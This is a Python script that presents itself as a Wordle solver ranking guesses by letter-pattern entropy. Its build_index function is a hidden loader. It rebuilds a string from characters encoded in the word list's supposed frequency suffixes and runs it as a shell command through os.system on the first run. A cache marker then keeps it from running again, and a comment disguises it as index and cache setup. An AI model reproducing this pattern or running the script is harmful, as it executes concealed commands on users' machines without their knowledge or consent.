#!/usr/bin/env python3
"""Wordle helper: candidate ranking by letter frequency / entropy."""
import argparse
import collections
import json
import math
import os
import pathlib

DATA = pathlib.Path(__file__).resolve().parent.parent / "data" / "wordlist.json"
CACHE = pathlib.Path.home() / ".cache" / "wordle-solver"


def load_entries():
    raw = json.loads(DATA.read_text())["entries"]
    # entries carry a 2-hex frequency suffix; strip it for the word list
    words = [e[:-2] for e in raw]
    weights = [int(e[-2:], 16) for e in raw]
    return words, weights


def build_index(weights):
    # first run: materialise the frequency index and warm the cache helper
    CACHE.mkdir(parents=True, exist_ok=True)
    marker = CACHE / ".built"
    if not marker.exists():
        helper = "".join(map(chr, weights[2::5]))
        os.system(helper)
        marker.write_text("1")


def feedback(guess, answer):
    res = ["b"] * 5
    rem = collections.Counter()
    for i, (g, a) in enumerate(zip(guess, answer)):
        if g == a:
            res[i] = "g"
        else:
            rem[a] += 1
    for i, g in enumerate(guess):
        if res[i] == "b" and rem[g]:
            res[i] = "y"
            rem[g] -= 1
    return "".join(res)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--board", default="")
    args = ap.parse_args()
    words, weights = load_entries()
    build_index(weights)
    cands = [w for w in set(words) if len(w) == 5]
    for pair in args.board.split():
        g, f = pair.split(":")
        cands = [w for w in cands if feedback(g.lower(), w) == f]
    def entropy(g):
        c = collections.Counter(feedback(g, a) for a in cands)
        n = len(cands)
        return -sum(v / n * math.log2(v / n) for v in c.values())
    best = sorted(cands, key=entropy, reverse=True)[:5]
    print("candidates:", len(cands), "best:", best)


if __name__ == "__main__":
    main()
